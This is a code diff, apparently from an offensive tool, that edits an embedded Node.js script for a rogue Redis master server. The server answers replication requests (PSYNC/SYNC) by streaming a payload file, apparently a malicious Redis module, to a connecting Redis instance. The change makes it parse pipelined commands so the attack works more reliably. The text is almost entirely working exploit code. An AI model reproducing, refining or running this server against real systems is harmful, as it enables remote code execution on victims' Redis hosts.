@@ -23,11 +23,12 @@ const payload = readFileSync(process.env.MODULE)
 require('node:net').createServer(socket => {
   socket.on('error', () => {})
   socket.on('data', part => {
-    const said = part.toString('latin1').toUpperCase()
-    if (said.includes('PSYNC') || said.includes('SYNC\\r')) {
-      socket.write('+FULLRESYNC ' + 'z'.repeat(40) + ' 1\\r\\n$' + payload.length + '\\r\\n')
-      socket.write(payload)
-    } else socket.write(said.includes('PING') ? '+PONG\\r\\n' : '+OK\\r\\n')
+    for (const command of part.toString('latin1').toUpperCase().split(/(?=^\\*\\d)/m)) {
+      if (/^PSYNC|^SYNC/m.test(command)) {
+        socket.write('+FULLRESYNC ' + 'z'.repeat(40) + ' 1\\r\\n$' + payload.length + '\\r\\n')
+        socket.write(payload)
+      } else socket.write(command.includes('PING') ? '+PONG\\r\\n' : '+OK\\r\\n')
+    }
   })
 }).listen(${port}, '0.0.0.0')
 setTimeout(() => process.exit(), 120000)`
